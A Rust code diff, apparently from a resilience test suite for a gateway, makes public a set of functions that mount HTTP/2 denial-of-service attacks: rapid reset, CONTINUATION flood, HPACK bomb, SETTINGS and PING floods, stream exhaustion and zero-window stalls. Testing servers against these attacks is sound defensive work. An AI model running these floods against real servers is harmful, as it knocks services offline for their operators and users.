@@ -78,9 +78,9 @@ fn last_word(socket: &mut TcpStream) -> String {
     }
 }
 
-pub(crate) fn rapid_reset(target: &Target<'_>) -> String {
+pub fn rapid_reset(target: &Target<'_>) -> String {
     let (block, mut stream) = (block("POST", "/slow"), 1_u32);
-    until_closed(target.gateway.address, &opening(&[]), move || {
+    until_closed(target.gateway.clients, &opening(&[]), move || {
         let mut bytes = Vec::new();
         for _ in 0..100 {
             bytes.extend(frames::frame(
@@ -96,7 +96,7 @@ pub(crate) fn rapid_reset(target: &Target<'_>) -> String {
     })
 }
 
-pub(crate) fn continuation_flood(target: &Target<'_>) -> String {
+pub fn continuation_flood(target: &Target<'_>) -> String {
     let mut more = Vec::new();
     literal(&mut more, b"a", &[b'b'; 1_000]);
     let opening = [
@@ -104,15 +104,15 @@ pub(crate) fn continuation_flood(target: &Target<'_>) -> String {
         frames::frame(HEADERS, END_STREAM, 1, &block("GET", "/slow")),
     ]
     .concat();
-    until_closed(target.gateway.address, &opening, move || {
+    until_closed(target.gateway.clients, &opening, move || {
         frames::frame(CONTINUATION, 0, 1, &more)
     })
 }
 
 /// One large field, remembered, and then named by a byte as often as a head has room for.
-pub(crate) fn hpack_bomb(target: &Target<'_>) -> String {
+pub fn hpack_bomb(target: &Target<'_>) -> String {
     let (mut first, mut stream) = (true, 1_u32);
-    until_closed(target.gateway.address, &opening(&[]), move || {
+    until_closed(target.gateway.clients, &opening(&[]), move || {
         let mut fields = block("GET", "/slow");
         if std::mem::take(&mut first) {
             fields.push(0x40);
@@ -126,18 +126,18 @@ pub(crate) fn hpack_bomb(target: &Target<'_>) -> String {
     })
 }
 
-pub(crate) fn settings_flood(target: &Target<'_>) -> String {
+pub fn settings_flood(target: &Target<'_>) -> String {
     borne(target, &frames::frame(SETTINGS, 0, 0, &[]))
 }
 
-pub(crate) fn ping_flood(target: &Target<'_>) -> String {
+pub fn ping_flood(target: &Target<'_>) -> String {
     borne(target, &frames::frame(PING, 0, 0, &[7; 8]))
 }
 
 /// A frame that wants an answer, by somebody who reads none, until the gateway stops listening: it
 /// keeps no answers that are not taken.
 fn borne(target: &Target<'_>, frame: &[u8]) -> String {
-    let mut socket = connect(target.gateway.address);
+    let mut socket = connect(target.gateway.clients);
     socket.set_write_timeout(Some(DEAF)).unwrap();
     socket.write_all(&opening(&[])).unwrap();
     let (many, mut sent) = (frame.repeat(1_000), 0);
@@ -151,14 +151,14 @@ fn borne(target: &Target<'_>, frame: &[u8]) -> String {
     format!("not listened to after {sent}")
 }
 
-pub(crate) fn empty_data(target: &Target<'_>) -> String {
+pub fn empty_data(target: &Target<'_>) -> String {
     let opening = [
         opening(&[]),
         frames::frame(HEADERS, END_HEADERS, 1, &block("POST", "/slow")),
     ]
     .concat();
     let many = frames::frame(DATA, 0, 1, &[]).repeat(1_000);
-    until_closed_or_reset(target.gateway.address, &opening, move || many.clone())
+    until_closed_or_reset(target.gateway.clients, &opening, move || many.clone())
 }
 
 /// As `until_closed`, but the end of the stream will do.
@@ -196,8 +196,8 @@ fn until_closed_or_reset(
 }
 
 /// Ten times as many streams as are allowed at the same time, each with a body that never comes.
-pub(crate) fn many_streams(target: &Target<'_>) -> String {
-    let mut socket = connect(target.gateway.address);
+pub fn many_streams(target: &Target<'_>) -> String {
+    let mut socket = connect(target.gateway.clients);
     let block = block("POST", "/slow");
     let heads: Vec<u8> = (0..1_280)
         .flat_map(|stream| frames::frame(HEADERS, END_HEADERS, stream * 2 + 1, &block))
@@ -229,16 +229,16 @@ pub(crate) fn many_streams(target: &Target<'_>) -> String {
 }
 
 /// With `SETTINGS_INITIAL_WINDOW_SIZE` of 0.
-pub(crate) fn no_window(target: &Target<'_>) -> String {
+pub fn no_window(target: &Target<'_>) -> String {
     not_taken(target, &[0, 4, 0, 0, 0, 0])
 }
 
-pub(crate) fn unread_answers(target: &Target<'_>) -> String {
+pub fn unread_answers(target: &Target<'_>) -> String {
     not_taken(target, &[])
 }
 
 fn not_taken(target: &Target<'_>, settings: &[u8]) -> String {
-    let mut socket = connect(target.gateway.address);
+    let mut socket = connect(target.gateway.clients);
     let block = block("GET", "/endless");
     let asked: Vec<u8> = (0..100)
         .flat_map(|stream| frames::frame(HEADERS, END_HEADERS | END_STREAM, stream * 2 + 1, &block))
@@ -250,17 +250,17 @@ fn not_taken(target: &Target<'_>, settings: &[u8]) -> String {
     "100 given up".to_owned()
 }
 
-pub(crate) fn stopped_heads(target: &Target<'_>) -> String {
+pub fn stopped_heads(target: &Target<'_>) -> String {
     let said = [
         opening(&[]),
         frames::frame(HEADERS, END_STREAM, 1, &block("GET", "/slow")),
     ]
     .concat();
-    let crowd = Crowd::connect(target.gateway.address, 1_000, &said).wait();
+    let crowd = Crowd::connect(target.gateway.clients, 1_000, &said).wait();
     format!("{} closed", crowd.last_words.len())
 }
 
-pub(crate) fn unused(target: &Target<'_>) -> String {
-    let crowd = Crowd::connect(target.gateway.address, 1_000, &opening(&[])).wait();
+pub fn unused(target: &Target<'_>) -> String {
+    let crowd = Crowd::connect(target.gateway.clients, 1_000, &opening(&[])).wait();
     format!("{} closed", crowd.last_words.len())
 }
